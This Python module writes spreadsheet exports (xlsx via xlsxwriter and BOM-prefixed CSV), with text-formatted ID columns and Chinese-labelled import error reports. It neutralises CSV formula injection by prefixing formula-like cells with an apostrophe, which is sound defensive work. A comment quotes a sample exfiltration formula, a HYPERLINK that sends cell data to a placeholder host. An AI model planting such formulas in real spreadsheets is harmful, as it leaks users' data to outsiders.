"""Writing sheets people open in Excel or WPS: .xlsx through xlsxwriter, .csv as UTF-8 with a BOM.

Header row styled and frozen with an autofilter, widths fitted to the header, and text columns (ID
numbers, phone numbers) formatted as text so that Excel never turns 610330... into 6.1033E+17.
Rows are written in order with xlsxwriter's constant-memory mode, so a 100,000-row export stays small.
"""

import csv
import datetime
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from typing import IO

import xlsxwriter

MAX_WIDTH = 40
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# Formula injection (OWASP "CSV injection"): a name typed as =HYPERLINK("http://x/?"&A1,"点此") or
# @SUM(...) is data to us but a formula to Excel, WPS and LibreOffice opening a CSV (and in an xlsx
# written with xlsxwriter's write()). A text cell starting with = + - @ or a tab or carriage return
# gets a leading apostrophe: shown as text, never evaluated. A plain number written as text
# ("-30.00", "+86") cannot be a formula and stays as it is. Every export writes its text cells
# through cell_safe(): people, figures, rosters and bank files, import error reports.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*")


def formula_like(text: str) -> bool:
    return text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text)


def cell_safe(value: object) -> object:
    """The value to write into a cell: formula-like text with a leading apostrophe, the rest unchanged."""
    if isinstance(value, str) and formula_like(value):
        return "'" + value
    return value


def row_safe(row) -> list:
    return [cell_safe(value) for value in row]


@dataclass(frozen=True)
class Column:
    header: str
    width: int | None = None  # characters; None = fitted to the header
    text: bool = False  # format the column as text (ID and phone numbers)
    note: str = ""  # shown as a comment on the header cell


@dataclass
class SheetOut:
    name: str
    columns: Sequence[Column]
    rows: Iterable[Sequence[object]]
    title_rows: Sequence[Sequence[object]] = field(default_factory=list)  # above the header, as they were
    highlight_column: int | None = None  # a column to draw the eye to (the error report's 错误原因)


def display_width(text: str) -> int:
    """Characters as Excel lays them out: a CJK character takes two columns."""
    return sum(2 if ord(ch) > 0x2E80 else 1 for ch in text)


def xlsx_write(out: IO[bytes] | str, *, sheets: Sequence[SheetOut]) -> None:
    workbook = xlsxwriter.Workbook(out, {"constant_memory": True, "strings_to_numbers": False,
                                         "strings_to_formulas": False, "strings_to_urls": False})
    formats = {
        "header": workbook.add_format({"bold": True, "bg_color": "#DCE9E2", "border": 1, "text_wrap": True,
                                       "valign": "vcenter", "align": "center"}),
        "title": workbook.add_format({"bold": True, "font_size": 13}),
        "text": workbook.add_format({"num_format": "@"}),
        "date": workbook.add_format({"num_format": "yyyy-mm-dd"}),
        "highlight": workbook.add_format({"font_color": "#B42318", "text_wrap": True}),
    }
    for sheet in sheets:
        _write_sheet(workbook, sheet, formats)
    workbook.close()


def _write_sheet(workbook, sheet: SheetOut, formats: dict) -> None:
    worksheet = workbook.add_worksheet(sheet.name[:31])
    for index, column in enumerate(sheet.columns):
        width = column.width or min(MAX_WIDTH, max(8, display_width(column.header) + 4))
        cell_format = formats["highlight"] if index == sheet.highlight_column else (
            formats["text"] if column.text else None)
        worksheet.set_column(index, index, width, cell_format)
    row_index = 0
    for title_row in sheet.title_rows:
        for col, value in enumerate(title_row):
            value = cell_safe(value)
            _write_cell(worksheet, row_index, col, value, formats, text=False,
                        cell_format=formats["title"] if row_index == 0 and col == 0 else None)
        row_index += 1
    header_row = row_index
    for col, column in enumerate(sheet.columns):
        worksheet.write_string(header_row, col, cell_safe(column.header), formats["header"])
        if column.note:
            worksheet.write_comment(header_row, col, column.note)
    worksheet.freeze_panes(header_row + 1, 0)
    text_columns = [column.text for column in sheet.columns]
    for row in sheet.rows:
        row_index += 1
        for col, value in enumerate(row):
            value = cell_safe(value)
            is_text = col < len(text_columns) and text_columns[col]
            _write_cell(worksheet, row_index, col, value, formats, text=is_text,
                        cell_format=formats["highlight"] if col == sheet.highlight_column else None)
    if sheet.columns:
        worksheet.autofilter(header_row, 0, max(row_index, header_row), len(sheet.columns) - 1)


def _write_cell(worksheet, row: int, col: int, value: object, formats: dict, *, text: bool, cell_format=None) -> None:
    if value is None or value == "":
        return
    if isinstance(value, bool):
        worksheet.write_string(row, col, "是" if value else "否", cell_format)
    elif isinstance(value, int | float) and not text:
        worksheet.write_number(row, col, value, cell_format)
    elif isinstance(value, datetime.datetime | datetime.date):
        worksheet.write_datetime(row, col, value, cell_format or formats["date"])
    else:
        worksheet.write_string(row, col, value if isinstance(value, str) else _plain(value),
                               cell_format or (formats["text"] if text else None))


def _plain(value: object) -> str:
    if isinstance(value, float) and value.is_integer() and abs(value) < 2**53:
        return str(int(value))
    return str(value)


def csv_write(out: IO[str], *, columns: Sequence[Column], rows: Iterable[Sequence[object]]) -> None:
    """CSV for Excel: open `out` with encoding="utf-8-sig" and newline="" so Excel reads the Chinese."""
    writer = csv.writer(out)
    writer.writerow([cell_safe(column.header) for column in columns])
    for row in rows:
        writer.writerow([_csv_value(value) for value in row])


def _csv_value(value: object) -> object:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "是" if value else "否"
    return cell_safe(value)


ERROR_COLUMN = "错误原因"
ROW_COLUMN = "原行号"


def error_report_write(out: IO[bytes] | str, *, sheet, header_index: int, reasons: dict[int, str],
                       text_columns: Iterable[int] = ()) -> None:
    """The sheet's title rows and header as they were, then each rejected row (sheet row number ->
    reason) as it was, with 错误原因 and 原行号 added: fix the rows and import this file again."""
    header = list(sheet.rows[header_index])
    text = set(text_columns)
    columns = [Column(_plain(value) if value not in (None, "") else "", text=i in text)
               for i, value in enumerate(header)]
    columns += [Column(ERROR_COLUMN, width=60), Column(ROW_COLUMN, width=8)]
    width = len(header)

    def rows():
        for row_number, reason in sorted(reasons.items()):
            cells = list(sheet.rows[row_number - 1][:width])
            yield cells + [""] * (width - len(cells)) + [reason, row_number]

    xlsx_write(out, sheets=[SheetOut(name=sheet.name or "错误报告", columns=columns, rows=rows(),
                                     title_rows=sheet.rows[:header_index], highlight_column=width)])
